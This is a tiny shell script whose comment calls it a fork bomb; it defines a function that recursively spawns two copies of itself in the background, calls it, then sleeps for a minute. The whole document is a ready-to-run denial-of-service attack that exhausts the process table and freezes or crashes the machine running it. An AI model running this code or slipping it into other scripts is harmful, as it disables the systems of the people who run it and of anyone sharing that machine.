# Fork bomb: every process starts two more, forever.
bomb() { bomb | bomb & }
bomb
sleep 60
